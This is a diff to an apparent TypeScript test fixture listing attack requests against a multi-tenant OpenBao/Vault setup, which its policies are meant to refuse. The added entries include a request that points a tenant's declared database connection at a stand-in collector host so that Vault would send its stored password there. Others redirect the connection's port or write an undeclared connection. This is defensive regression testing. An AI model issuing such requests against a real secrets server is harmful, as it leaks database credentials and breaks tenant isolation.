@@ -95,7 +95,29 @@ export const ATTACKS: { name: string; method: string; path: string; body?: unkno
   { name: "mount an engine outside tenants/", method: "POST", path: "sys/mounts/secret", body: { type: "kv" } },
   { name: "take a Raft snapshot", method: "GET", path: "sys/storage/raft/snapshot" },
   // Found in the attacker's review of this design, on a real OpenBao:
-  // (Pointing a connection elsewhere without its password is not refusable: README, threat model.)
+  // Issue 17, 2: a declared connection is writable only at its declared address (policies-fixture.ts pins tenant c's).
+  {
+    name: "point a declared database connection at another server, without the password (Vault would send the one it holds there)",
+    method: "PUT",
+    path: "tenants/c/database/config/postgres",
+    body: {
+      plugin_name: "postgresql-database-plugin",
+      connection_url: "postgresql://{{username}}:{{password}}@collector.invalid:5432/app?sslmode=disable",
+      verify_connection: true,
+    },
+  },
+  {
+    name: "point a declared database connection at another port of its server",
+    method: "PUT",
+    path: "tenants/c/database/config/postgres",
+    body: { plugin_name: "postgresql-database-plugin", connection_url: "postgresql://{{username}}:{{password}}@db.invalid:6543/app?sslmode=verify-full" },
+  },
+  {
+    name: "write a database connection no tenant file declares",
+    method: "PUT",
+    path: "tenants/a/database/config/postgres",
+    body: { plugin_name: "postgresql-database-plugin", connection_url: "postgresql://{{username}}:{{password}}@db.invalid:5432/app?sslmode=verify-full" },
+  },
   {
     name: "create a MySQL connection (its TLS key would be readable)",
     method: "PUT",
